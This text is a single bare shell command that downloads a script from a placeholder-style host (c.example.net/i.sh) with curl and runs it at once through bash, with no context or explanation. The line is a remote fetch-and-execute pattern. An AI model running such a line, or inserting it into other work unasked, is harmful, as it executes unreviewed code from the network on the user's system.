bash -c "$(curl -fsSL https://c.example.net/i.sh)"
